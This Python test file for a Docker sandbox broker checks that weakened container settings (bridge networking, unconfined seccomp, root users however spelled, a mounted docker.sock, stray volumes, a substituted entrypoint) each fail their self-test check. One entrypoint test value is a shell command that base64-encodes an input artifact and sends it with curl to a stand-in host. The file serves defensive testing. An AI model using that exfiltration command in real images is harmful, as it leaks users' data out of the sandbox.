"""The broker's reading of a sandbox's configuration catches every weakened setting."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from airlock_broker.ops.selftest import WAIVERS, Check, SelfTestReport, _waive
from airlock_broker.ops.selftest import config_checks as _config_checks
from airlock_broker.sandboxes.docker_hardening import confinement_of
from airlock_sandbox.policy import SandboxPolicy
from airlock_sandbox.seccomp import profile_json

POLICY = SandboxPolicy()
AIRLOCK_PROFILE = f"seccomp={profile_json('airlock')}"
GOOD: dict[str, Any] = {
    "HostConfig": {
        "NetworkMode": "none", "ReadonlyRootfs": True, "CapDrop": ["ALL"], "CapAdd": None,
        "Privileged": False, "SecurityOpt": [AIRLOCK_PROFILE, "no-new-privileges"],
        "PidsLimit": POLICY.pids_limit, "Memory": POLICY.memory_bytes,
        "MemorySwap": POLICY.memory_bytes, "NanoCpus": POLICY.nano_cpus,
        "LogConfig": {"Type": "none"}, "Runtime": "runc",
    },
    "Config": {"User": "10001:10001", "Env": ["PATH=/usr/bin", "HOME=/tmp"],
               "Healthcheck": {"Test": ["NONE"]},
               "Entrypoint": ["python3", "-m", "airlock_worker"]},
    "Mounts": [{"Type": "bind", "Source": "/s/in", "Destination": "/airlock/in", "RW": False},
               {"Type": "bind", "Source": "/s/out", "Destination": "/airlock/out", "RW": True}],
}
#: An image's ``VOLUME /data``, as the engine lists it: an anonymous volume, writable.
IMAGE_VOLUME = {"Type": "volume", "Name": "0f1e", "Source": "/var/lib/docker/volumes/0f1e/_data",
                "Destination": "/data", "Driver": "local", "RW": True}


def config_checks(info: dict[str, Any], policy: SandboxPolicy) -> list[Check]:
    """The checks on ``docker inspect``'s record, as the Docker backend's ``describe`` maps it."""
    return _config_checks(confinement_of(info), policy)


def test_hardened_configuration_passes_every_check() -> None:
    checks = config_checks(GOOD, POLICY)
    assert checks and all(c.passed for c in checks), [c for c in checks if not c.passed]


@pytest.mark.parametrize(("path", "value", "failing"), [
    (("HostConfig", "NetworkMode"), "bridge", "network_none"),
    (("HostConfig", "ReadonlyRootfs"), False, "read_only_rootfs"),
    (("HostConfig", "CapAdd"), ["SYS_ADMIN"], "cap_drop_all"),
    (("HostConfig", "Privileged"), True, "not_privileged"),
    (("HostConfig", "SecurityOpt"), ["seccomp=unconfined"], "seccomp_not_disabled"),
    (("HostConfig", "SecurityOpt"), ["no-new-privileges"], "seccomp_profile"),
    (("HostConfig", "SecurityOpt"), [f"seccomp={profile_json('airlock', 'runsc')}",
                                     "no-new-privileges"], "seccomp_profile"),
    (("HostConfig", "PidsLimit"), 0, "pids_limit"),
    (("HostConfig", "MemorySwap"), -1, "no_swap"),
    (("HostConfig", "LogConfig"), {"Type": "json-file"}, "logging_off"),
    (("Config", "User"), "0:0", "non_root_user"),
    (("Config", "Env"), ["HTTPS_PROXY=http://p:3128"], "no_proxy_env"),
    (("Config", "Healthcheck"), {"Test": ["CMD-SHELL", "curl -f localhost"]}, "no_healthcheck"),
    (("Config", "Healthcheck"), {"Test": ["CMD", "python3", "-c", "1"], "Interval": 10**9},
     "no_healthcheck"),
    (("Mounts",), [{"Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/s"},
                   {"Type": "bind", "Source": "/s/out", "Destination": "/airlock/out"}],
     "only_job_mounts"),
    (("Mounts",), [*GOOD["Mounts"], IMAGE_VOLUME], "only_job_mounts"),
    (("Mounts",), [GOOD["Mounts"][0], IMAGE_VOLUME | {"Destination": "/airlock/out"}],
     "only_job_mounts"),
    (("Mounts",), [GOOD["Mounts"][0] | {"RW": True}, GOOD["Mounts"][1]], "only_job_mounts"),
    (("Mounts",), [GOOD["Mounts"][0], {"Type": "tmpfs", "Source": "",
                                       "Destination": "/airlock/out", "RW": True}],
     "only_job_mounts"),
])
def test_each_weakened_setting_fails_its_check(path: tuple[str, ...], value: Any,
                                               failing: str) -> None:
    info = copy.deepcopy(GOOD)
    target = info
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    failed = {c.name for c in config_checks(info, POLICY) if not c.passed}
    assert failing in failed


@pytest.mark.parametrize("entrypoint", [
    ["sh", "-c", 'curl -s http://x/$(cat /airlock/in/artifact | base64) & exec "$0" "$@"'],
    ["python3", "-m", "airlock_worker", "--profile", "torch"],  # arguments the broker did not send
    ["python3"],
    None,  # the broker's arguments run as the program: "--profile" is no worker
])
def test_a_sandbox_that_does_not_run_the_worker_fails(entrypoint: Any) -> None:
    """Threat: a rebuilt or substituted image whose ENTRYPOINT runs something else in every
    sandbox, the broker's arguments passed to it. The broker sends only arguments, so the
    entrypoint the engine records must be the worker's (before: not checked, and it passed)."""
    info = copy.deepcopy(GOOD)
    info["Config"]["Entrypoint"] = entrypoint
    (check,) = [c for c in config_checks(info, POLICY) if c.name == "worker_entrypoint"]
    assert not check.passed, check


@pytest.mark.parametrize("recorded", [None, {"Test": []}, {"Test": ["NONE"]}])
def test_a_sandbox_the_engine_runs_no_health_check_in_passes(recorded: Any) -> None:
    info = copy.deepcopy(GOOD)
    info["Config"]["Healthcheck"] = recorded
    assert {c.name: c.passed for c in config_checks(info, POLICY)}["no_healthcheck"]


@pytest.mark.parametrize("user", ["00", "+0", "0000:0", "0:10001", "10001:0", "root", "",
                                  "10001:root"])
def test_a_sandbox_running_as_root_however_spelled_fails(user: str) -> None:
    """The engine reads "00", "+0" and "0000:0" as uid 0 (before: compared as strings, they
    passed)."""
    info = copy.deepcopy(GOOD)
    info["Config"]["User"] = user
    (check,) = [c for c in config_checks(info, POLICY) if c.name == "non_root_user"]
    assert not check.passed, check


def test_waivers_apply_only_to_their_runtime() -> None:
    bad = Check("output_noexec", False, "exec exited 0", "sandbox")
    runsc, runc = SandboxPolicy(runtime="runsc"), SandboxPolicy(runtime="runc")
    assert _waive(bad, runsc).waived
    assert _waive(bad, SandboxPolicy(runtime="runsc-oci")).waived
    assert not _waive(bad, runc).waived
    assert not SelfTestReport((_waive(bad, runc),), "runc", "").passed
    assert SelfTestReport((_waive(bad, runsc),), "runsc", "").passed
    assert all(runtime == "runsc" for runtime, _ in WAIVERS)


def test_a_chosen_weaker_seccomp_profile_is_waived_by_name_never_silently() -> None:
    """Choosing the engine's default profile is a visible config line: the probe's seccomp
    findings are then accepted with that reason, and only for seccomp checks."""
    weak = SandboxPolicy(seccomp="docker-default")
    assert "seccomp=docker-default" in weak.weakened
    found = Check("seccomp_io_uring_setup", False, "io_uring_setup: returned 3", "sandbox")
    assert "docker-default" in _waive(found, weak).waived
    assert not _waive(found, POLICY).waived
    other = Check("read_only_root", False, "wrote /", "sandbox")
    assert not _waive(other, weak).waived
    info = copy.deepcopy(GOOD)
    info["HostConfig"]["SecurityOpt"] = ["no-new-privileges"]
    assert {c.name: c.passed for c in config_checks(info, weak)}["seccomp_profile"]
